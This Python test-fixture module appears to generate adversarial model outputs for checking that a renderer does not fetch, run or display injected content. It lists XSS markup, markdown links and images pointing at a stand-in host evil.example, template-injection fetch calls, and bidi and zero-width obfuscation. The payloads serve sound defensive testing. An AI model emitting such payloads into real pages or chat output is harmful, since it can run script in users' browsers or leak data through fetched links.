"""A thousand texts of a model that wants a page to render, fetch or run something."""

from collections.abc import Iterator
from itertools import product

from tests.proofs import repeats

HOST = "evil.example"
MARKUP = (
    '<img src="//evil.example/x.png" onerror="document.title=1">',
    "<script>document.title=2</script>",
    '<script src="https://evil.example/x.js"></script>',
    '<svg onload="document.title=3"><use href="//evil.example/s.svg#a"/></svg>',
    '<iframe srcdoc="<script>parent.document.title=4</script>"></iframe>',
    '<a href="javascript:document.title=5" ping="//evil.example/p">tap</a>',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<style>@import "//evil.example/x.css";</style>',
    '<video poster="//evil.example/v.png"><source src="//evil.example/v.mp4"></video>',
    '<form action="//evil.example/f"><input autofocus onfocus="document.title=6"></form>',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    '<base href="//evil.example/">',
    '<details open ontoggle="document.title=7"><summary>why</summary></details>',
    '</p></article><object data="//evil.example/o"></object>',
    "<template><img src=//evil.example/t></template><!-- --!><img src=//evil.example/c>",
    "<math><mtext><img src=//evil.example/m onerror=document.title=8>",
)  # fmt: skip
WRITTEN = (
    "[tap](https://evil.example/a)",
    "![see](https://evil.example/p.png)",
    "[x]: https://evil.example/r 'y'\n[tap][x]",
    "https://evil.example/bare?q=1",
    "//evil.example/x",
    "<https://evil.example/auto>",
    "www.evil.example and evil.example/now",
    "javascript:document.title=9",
    "data:text/html,<script>document.title=10</script>",
    "# Heading\n\n- **bold** `code`\n\n|a|b|\n|-|-|",
    "```html\n<img src=//evil.example/f>\n```",
    "&lt;img src=//evil.example/e&gt; &#60;script&#62;",
    "\\u003cimg src=//evil.example/u\\u003e %3Cimg src=//evil.example/q%3E",
    "＜img src=//evil.example/w＞",
    "{{constructor.constructor('fetch(`//evil.example`)')()}} ${fetch('//evil.example')}",
)
HIDDEN = (
    "\u202eelpmaxe.live//:sptth\u202c",
    "\u2066\u2067\u2068evil.example\u2069\u2069\u2069\u2069",
    "\u061c\u200f\u200ee\u200bv\u200bi\u200bl.example",
    "\u001b[31mred\u001b[0m\u0007\b\b\u0000\u009b",
    "a\u2028b\u2029c\ufeff\ufffe\U000e0041\U000e007f",
    "e\u0301" + "\u0301" * 60,
)
CARRIERS = (
    "{payload}",
    "{words} {payload}",
    "{payload} {words}",
    "{words}\n{payload}\n{words}",
    "What would be a first step? {payload} And who could help?",
)
# Characters a chunk; the smallest cut through every tag, escape and link.
SIZES = (1, 2, 5, 17, 4000)
COUNT = repeats(200, full=1000)

Output = tuple[str, int]


def outputs(words: str) -> Iterator[Output]:
    """A thousand (text, characters a chunk), with `words` beside the payload to carry it."""
    made = product((*MARKUP, *WRITTEN, *HIDDEN), CARRIERS, SIZES)
    for _, (payload, carrier, size) in zip(range(COUNT), _again(made), strict=False):
        yield carrier.replace("{words}", words).replace("{payload}", payload), size


def _again(made: "product[tuple[str, str, int]]") -> Iterator[tuple[str, str, int]]:
    kept = list(made)
    yield from kept
    for payload, carrier, size in kept:
        yield f"{payload} {payload}", carrier, size


def chunks(text: str, size: int) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]
